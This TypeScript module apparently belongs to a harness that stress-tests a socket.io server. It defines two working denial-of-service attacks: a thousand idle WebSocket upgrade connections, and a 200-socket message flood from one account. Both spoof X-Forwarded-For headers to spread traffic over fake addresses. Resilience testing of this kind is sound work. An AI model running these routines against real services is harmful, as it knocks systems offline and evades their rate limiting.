import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { io } from 'socket.io-client';
import { count } from '../requests.ts';
import { type Attack, addressOf, type Outcome } from '../target.ts';

/** Addresses that an attack is spread over. */
const ADDRESSES = 50;

/** A thousand connections that ask for a socket and then say nothing. */
export const silentSockets: Attack = async ({ url, seconds, network }) => {
  const { hostname, port } = new URL(url);
  const outcome: Outcome = {};
  const sockets = Array.from({ length: 1000 }, (_, index) => {
    const socket = connect(Number(port), hostname);
    socket.on('error', () => count(outcome, 'closed'));
    socket.on('connect', () => socket.write(upgradeRequest(url, network, index)));
    socket.once('data', (answer) => count(outcome, answer.toString('latin1', 9, 12)));
    socket.resume();
    return socket;
  });
  await sleep(seconds * 1000);
  outcome.stillOpen = sockets.filter(isOpen).length;
  for (const socket of sockets) socket.destroy();
  return outcome;
};

function isOpen(socket: Socket): boolean {
  return socket.readyState === 'open';
}

/** Half of them without an `Origin`. */
function upgradeRequest(url: string, network: number, index: number): string {
  const lines = [
    'GET /socket.io/?EIO=4&transport=websocket HTTP/1.1',
    `Host: ${new URL(url).host}`,
    'Upgrade: websocket',
    'Connection: Upgrade',
    'Sec-WebSocket-Version: 13',
    'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==',
    `X-Forwarded-For: ${addressOf(network, index % ADDRESSES)}`,
    ...(index % 2 ? [`Origin: ${url}`] : []),
  ];
  return `${lines.join('\r\n')}\r\n\r\n`;
}

/** Hundreds of sockets for one account, each sending as fast as it can. */
export const socketFlood: Attack = async ({ url, accounts, seconds, network }) => {
  const outcome: Outcome = {};
  const [account] = accounts;
  const sockets = Array.from({ length: 200 }, (_, index) => {
    const socket = io(url, {
      transports: ['websocket'],
      forceNew: true,
      reconnection: false,
      auth: { userId: account?.userId },
      extraHeaders: {
        cookie: account?.cookie ?? '',
        origin: url,
        'x-forwarded-for': addressOf(network, index % ADDRESSES),
      },
    });
    socket.on('connect', () => count(outcome, 'connected'));
    socket.on('connect_error', () => count(outcome, 'refused'));
    socket.on('disconnect', () => count(outcome, 'disconnected'));
    return socket;
  });
  const end = Date.now() + seconds * 1000;
  while (Date.now() < end) {
    for (const socket of sockets) if (socket.connected) socket.emit('flood', 'x'.repeat(1000));
    await sleep(5);
  }
  for (const socket of sockets) socket.close();
  return outcome;
};
